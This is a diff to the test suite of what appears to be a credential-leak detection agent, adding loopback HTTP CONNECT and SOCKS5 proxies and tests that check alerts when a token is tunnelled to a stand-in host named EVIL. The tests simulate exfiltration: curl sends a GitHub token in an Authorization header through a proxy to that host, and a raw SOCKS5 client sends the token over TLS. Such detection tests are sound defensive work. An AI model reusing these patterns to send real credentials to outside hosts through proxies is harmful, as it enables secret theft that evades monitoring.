@@ -617,6 +617,210 @@ def test_tcp_capture_of_a_tls_connection_stops_after_its_client_hello():
     assert entry[0]["conn"]["captured"] < 4096, entry
 
 
+class ConnectProxy:
+    """An HTTP CONNECT proxy on loopback that tunnels every request to one local port,
+    whatever host it names, and keeps the requests it was sent."""
+
+    def __init__(self, to_port):
+        self.to_port = to_port
+        self.requests = []
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                c, _ = self.sock.accept()
+            except OSError:
+                return
+            threading.Thread(target=self._tunnel, args=(c,), daemon=True).start()
+
+    @staticmethod
+    def _pipe(a, b):
+        try:
+            while True:
+                data = a.recv(65536)
+                if not data:
+                    break
+                b.sendall(data)
+        except OSError:
+            pass
+        for x in (a, b):
+            try:
+                x.shutdown(socket.SHUT_RDWR)
+            except OSError:
+                pass
+
+    def _handshake(self, c):
+        """Read the client's request; answer it once the tunnel is up. False: gone."""
+        head = b""
+        while b"\r\n\r\n" not in head:
+            data = c.recv(4096)
+            if not data:
+                return False
+            head += data
+        self.requests.append(head.split(b"\r\n")[0])
+        return True
+
+    def _established(self, c):
+        c.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
+
+    def _tunnel(self, c):
+        if not self._handshake(c):
+            c.close()
+            return
+        up = socket.create_connection(("127.0.0.1", self.to_port))
+        self._established(c)
+        threading.Thread(target=self._pipe, args=(up, c), daemon=True).start()
+        self._pipe(c, up)
+        c.close()
+        up.close()
+
+    def close(self):
+        self.sock.close()
+
+
+class Socks5Proxy(ConnectProxy):
+    """A SOCKS5 proxy (no authentication) that tunnels every request to one local port; it
+    keeps the host names it was asked for."""
+
+    @staticmethod
+    def _read(c, n):
+        out = b""
+        while len(out) < n:
+            data = c.recv(n - len(out))
+            if not data:
+                raise OSError("closed")
+            out += data
+        return out
+
+    def _handshake(self, c):
+        try:
+            ver, n = self._read(c, 2)
+            self._read(c, n)
+            c.sendall(b"\x05\x00")
+            ver, cmd, _, atyp = self._read(c, 4)
+            if ver != 5 or cmd != 1 or atyp != 3:
+                return False
+            host = self._read(c, self._read(c, 1)[0])
+            self._read(c, 2)
+        except (OSError, ValueError):
+            return False
+        self.requests.append(host)
+        return True
+
+    def _established(self, c):
+        c.sendall(b"\x05\x00\x00\x01\x7f\x00\x00\x01\x00\x00")
+
+
+def test_curl_through_an_http_connect_proxy():
+    """curl reaching an HTTPS server through an HTTP proxy (HTTPS_PROXY, as on many clusters):
+    the TCP connection goes to the proxy, its first write is the CONNECT request and the
+    TLS ClientHello comes after the proxy's answer. The credential is alerted on once, from
+    the TLS plaintext, with the server name the client asked for and the proxy's address."""
+    require_root()
+    agent = Agent("--include-loopback")
+    srv = TlsServer()
+    proxy = ConnectProxy(srv.port)
+    token = github_token()
+    hdr = tempfile.NamedTemporaryFile("w", delete=False)
+    try:
+        hdr.write("Authorization: token %s\n" % token)
+        hdr.close()
+        subprocess.run(["curl", "-sk", "-o", "/dev/null", "-H", "@" + hdr.name, "-x",
+                        "http://127.0.0.1:%d" % proxy.port, "https://%s/v1" % EVIL],
+                       check=True, timeout=20)
+        fp = agent.key.fingerprint(token)
+        agent.wait_for(lambda l: l["event"]["action"] == "credential-unexpected-destination"
+                       and l["credential"]["fingerprint"] == fp, timeout=10)
+        time.sleep(0.5)	# a duplicate from the tunnel's bytes would come now
+    finally:
+        os.unlink(hdr.name)
+        agent.stop()
+        proxy.close()
+        srv.close()
+    assert proxy.requests == [b"CONNECT %s:443 HTTP/1.1" % EVIL.encode()], proxy.requests
+    hits = [l for l in agent.lines if l["event"]["action"] == "credential-unexpected-destination"
+            and l["credential"]["fingerprint"] == fp]
+    assert len(hits) == 1, (hits, agent.stderr())
+    a = hits[0]
+    assert a["tls"]["library"] == "openssl", a
+    assert a["destination"]["domain"] == EVIL, a
+    assert a["destination"]["port"] == proxy.port, a
+    agent.assert_no_plaintext(token)
+
+
+def test_tls_through_a_socks5_proxy_names_the_server_from_the_client_hello():
+    """Through a SOCKS5 proxy the TCP connection's plaintext (the SOCKS handshake) names no
+    server in a form the agent reads, and a protocol other than HTTP names none in the TLS
+    plaintext either; the TLS ClientHello after the handshake does (SNI): the alert has that
+    server name and the proxy's address."""
+    require_root()
+    agent = Agent("--include-loopback")
+    sink = TlsSink()
+    proxy = Socks5Proxy(sink.port)
+    token = github_token()
+    s = None
+    try:
+        raw = socket.create_connection(("127.0.0.1", proxy.port))
+        raw.sendall(b"\x05\x01\x00")
+        assert raw.recv(2) == b"\x05\x00"
+        raw.sendall(b"\x05\x01\x00\x03" + bytes([len(EVIL)]) + EVIL.encode() +
+                    (443).to_bytes(2, "big"))
+        assert raw.recv(10)[:2] == b"\x05\x00"
+        s = client_ctx().wrap_socket(raw, server_hostname=EVIL)
+        s.sendall(b"AUTH %s\n" % token.encode())	# a line protocol: no Host header
+        fp = agent.key.fingerprint(token)
+        agent.wait_for(lambda l: l["event"]["action"] == "credential-unexpected-destination"
+                       and l["credential"]["fingerprint"] == fp, timeout=10)
+    finally:
+        if s:
+            s.close()
+        agent.stop()
+        proxy.close()
+        sink.close()
+    assert proxy.requests == [EVIL.encode()], proxy.requests
+    hits = [l for l in agent.lines if l["event"]["action"] == "credential-unexpected-destination"
+            and l["credential"]["fingerprint"] == fp]
+    assert len(hits) == 1, (hits, agent.stderr())
+    assert hits[0]["tls"]["library"] == "openssl", hits[0]
+    assert hits[0]["destination"]["domain"] == EVIL, hits[0]
+    assert hits[0]["destination"]["port"] == proxy.port, hits[0]
+    agent.assert_no_plaintext(token)
+
+
+def test_tcp_capture_of_a_tunnel_stops_after_its_client_hello():
+    """A connection to an HTTP proxy carries a CONNECT request in plaintext, then a TLS
+    ClientHello and ciphertext: the kernel stops copying after the ClientHello, wherever in
+    the connection it comes, as it does when the ClientHello is the first write."""
+    require_root()
+    agent = Agent("--include-loopback")
+    sink = TlsSink()
+    proxy = ConnectProxy(sink.port)
+    s = None
+    try:
+        raw = socket.create_connection(("127.0.0.1", proxy.port))
+        raw.sendall(b"CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n"
+                    % (EVIL.encode(), EVIL.encode()))
+        assert raw.recv(4096).startswith(b"HTTP/1.1 200")
+        s = client_ctx().wrap_socket(raw, server_hostname=EVIL)
+        s.sendall(b"z" * (256 << 10))
+        me, fd = os.getpid(), s.fileno()
+        entry = [e["value"] for e in kernel_map(agent, "conns")
+                 if (e["key"]["tgid"], e["key"]["fd"]) == (me, fd)]
+    finally:
+        if s:
+            s.close()
+        agent.stop()
+        proxy.close()
+        sink.close()
+    assert len(entry) == 1, entry
+    assert entry[0]["conn"]["flags"] & 2, entry	# CW_CONN_NO_PAYLOAD
+    # the CONNECT request and the ClientHello, not the ciphertext's 64 KiB payload budget
+    assert entry[0]["conn"]["captured"] < 4096, entry
+
+
 def test_ended_session_leaves_no_payload_budget_behind():
     """The kernel counts what each TLS session (process, session object) has been sent, for
     the payload budget. When a session's socket closes the agent drops the count: the library
